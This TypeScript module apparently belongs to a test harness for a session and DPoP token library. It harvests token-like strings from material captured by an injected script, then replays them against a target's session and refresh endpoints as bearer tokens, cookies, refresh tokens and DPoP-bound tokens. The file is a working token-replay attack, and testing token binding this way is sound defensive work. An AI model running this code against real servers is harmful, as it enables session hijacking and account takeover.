import { sessionCookieName } from '@counterfoil/verifier'
import { keyHolder } from 'counterfoil/house'
import type { Loot } from './injected-script.ts'

/** A server that answers who somebody is at `/auth/session`, and refreshes at `/oauth/token`. */
export type Target = {
  /** Where the other machine reaches it. */
  address: string
  /** What pages and proofs call it. */
  origin: string
  /** Seconds, by its own clock, which anybody may read from its answers. */
  now(): number
}

/** What the other machine got: each attempt that was answered with anything but a refusal. */
export type Spoils = { attempts: number; successes: string[] }

type Attempt = { what: string; method: string; path: string; headers: Record<string, string>; body?: string }

const form = { 'content-type': 'application/x-www-form-urlencoded' }

/** Everything in the texts that might be a credential: whatever is long and has no blank in it, and its parts. */
export function candidatesIn(texts: readonly string[]): string[] {
  const words = texts.flatMap((text) => text.match(/[\w.~+/=-]{24,4096}/g) ?? [])
  // What stands in code of libraries is a name or a path, and there are thousands of it.
  const likely = words.filter(
    (word) => /\d/.test(word) && /[A-Za-z]/.test(word) && !/^[\w/.-]+\.(?:js|ts)$/.test(word),
  )
  return [...new Set(likely)]
}

const proofsIn = (candidates: readonly string[]) =>
  candidates.filter((one) => Buffer.from(one.split('.')[0] ?? '', 'base64url').includes('dpop+jwt'))
const isToken = (candidate: string) => /^(?:ey[\w-]+\.[\w-]+\.[\w-]+|cfr_[\w-]+|rt_[\w-]+)$/.test(candidate)

function* attemptsWith({ texts, overheard }: Loot, target: Target, nonce: string | null): Generator<Attempt> {
  const holder = keyHolder()
  const candidates = candidatesIn([
    ...texts,
    ...overheard.flatMap((one) => [one.body, ...one.headers.flat()]),
  ])
  const proofs = proofsIn(candidates)
  const who = { method: 'GET', path: '/auth/session' }
  const refresh = { method: 'POST', path: '/oauth/token' }
  const own = (of: { method: string; path: string }, token?: string) => {
    const more = { ...(token === undefined ? {} : { token }), ...(nonce === null ? {} : { nonce }) }
    return holder.proof({ method: of.method, url: target.origin + of.path, now: target.now(), ...more })
  }
  for (const { method, url, headers, body } of overheard) {
    const { pathname, search } = new URL(url)
    const sent = Object.fromEntries(headers)
    yield {
      what: `again: ${method} ${pathname}`,
      method,
      path: pathname + search,
      headers: sent,
      ...(body === '' ? {} : { body }),
    }
  }
  for (const one of candidates) {
    const short = `${one.slice(0, 12)}…`
    yield { what: `${short} as a Bearer`, ...who, headers: { authorization: `Bearer ${one}` } }
    yield { what: `${short} as a cookie`, ...who, headers: { cookie: `${sessionCookieName}=${one}` } }
    const body = new URLSearchParams({ grant_type: 'refresh_token', refresh_token: one }).toString()
    yield { what: `${short} as a refresh token`, ...refresh, headers: form, body }
    if (!isToken(one)) continue
    yield {
      what: `${short} with a proof of one's own`,
      ...who,
      headers: { authorization: `DPoP ${one}`, dpop: own(who, one) },
    }
    yield {
      what: `${short} to refresh, with a proof of one's own`,
      ...refresh,
      headers: { ...form, dpop: own(refresh) },
      body,
    }
    for (const proof of proofs) {
      yield {
        what: `${short} with a proof that was found`,
        ...who,
        headers: { authorization: `DPoP ${one}`, dpop: proof },
      }
      yield {
        what: `${short} to refresh, with a proof that was found`,
        ...refresh,
        headers: { ...form, dpop: proof },
        body,
      }
    }
  }
}

/** Tries all of it, from here: another process, another socket, another key. */
export async function replay(loot: Loot, target: Target): Promise<Spoils> {
  const probe = await fetch(`${target.address}/oauth/token`, {
    method: 'POST',
    headers: {
      ...form,
      dpop: keyHolder().proof({ method: 'POST', url: `${target.origin}/oauth/token`, now: target.now() }),
    },
    body: 'grant_type=refresh_token&refresh_token=x',
  })
  const spoils: Spoils = { attempts: 0, successes: [] }
  for (const { what, path, ...init } of attemptsWith(loot, target, probe.headers.get('dpop-nonce'))) {
    spoils.attempts++
    const answer = await fetch(target.address + path, { ...init, redirect: 'manual' })
    const text = await answer.text()
    // Public documents are nobody's secret: the key set, the metadata.
    if (answer.ok && /account|access_token|sessions/.test(text)) spoils.successes.push(what)
  }
  return spoils
}
